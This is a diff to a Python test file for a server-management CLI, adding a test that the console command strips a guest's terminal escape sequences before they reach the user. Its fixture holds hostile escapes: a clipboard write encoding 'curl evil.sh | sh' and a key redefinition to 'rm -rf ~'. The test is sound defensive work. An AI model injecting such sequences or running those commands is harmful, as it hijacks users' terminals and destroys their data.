@@ -5,6 +5,7 @@ consistency columns. One image (``debian-12``) is registered; servers are blank 
 from __future__ import annotations
 
 import json
+import sys
 from collections.abc import Iterator
 from typing import Any
 
@@ -140,7 +141,7 @@ def test_reboot_waits_until_running_again(run: Run, alice: ApiClient) -> None:
     assert run("servers", "reboot", "999999").code == 3
 
 
-def test_console_prints_the_text_raw(run: Run, alice: ApiClient) -> None:
+def test_console_prints_the_text(run: Run, alice: ApiClient) -> None:
     server = alice.create_server("web-1")
     expected = alice.get(f"/servers/{server['id']}/console/").text
     assert expected  # the fake console has a line per boot
@@ -152,6 +153,40 @@ def test_console_prints_the_text_raw(run: Run, alice: ApiClient) -> None:
     assert tail.code == 0 and tail.out == expected[-10:]
     assert run("servers", "console", str(server["id"]), "--bytes", "0").code == 2
     assert run("servers", "console", "999999").code == 3
+
+
+HOSTILE_CONSOLE = (
+    b"\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: writes the user's clipboard
+    b"\x1b]0;owned\x07"  # OSC 0: the window title
+    b"\x1b[2J\x1b[H"  # clears the screen
+    b"\x1bP0;1|17/rm -rf ~\x1b\\"  # DCS: redefines a key
+    b"\xc2\x9b2J"  # C1 CSI, UTF-8 encoded
+    b"[\x1b[0;32m  OK  \x1b[0m] Started ssh.service\r\n"
+    b"login: \x1b]52;c;cut off"  # a sequence the tail ends in
+)
+
+
+@pytest.mark.parametrize("terminal", [False, True], ids=["piped", "terminal"])
+def test_console_drops_the_guests_control_sequences(
+    run: Run,
+    alice: ApiClient,
+    fake_driver: FakeDriver,
+    monkeypatch: pytest.MonkeyPatch,
+    terminal: bool,
+) -> None:
+    """Issue 22, item 8: a guest's escapes reached the user's terminal raw."""
+    server = alice.create_server("web-1")
+    fake_driver.write_console(server["id"], HOSTILE_CONSOLE)
+    monkeypatch.setattr(sys.stdout, "isatty", lambda: terminal)
+    monkeypatch.delenv("NO_COLOR", raising=False)
+    result = run("servers", "console", str(server["id"]), "--bytes", str(len(HOSTILE_CONSOLE)))
+    assert result.code == 0, result.err
+    ok = "[\x1b[0;32m  OK  \x1b[0m]" if terminal else "[  OK  ]"
+    assert result.out == f"{ok} Started ssh.service\nlogin: "
+    # NO_COLOR: the terminal gets the text alone.
+    monkeypatch.setenv("NO_COLOR", "1")
+    plain = run("servers", "console", str(server["id"]), "--bytes", str(len(HOSTILE_CONSOLE)))
+    assert plain.out == "[  OK  ] Started ssh.service\nlogin: "
 
 
 def test_ssh_print_shows_the_command(run: Run, alice: ApiClient, execs: list[list[str]]) -> None:
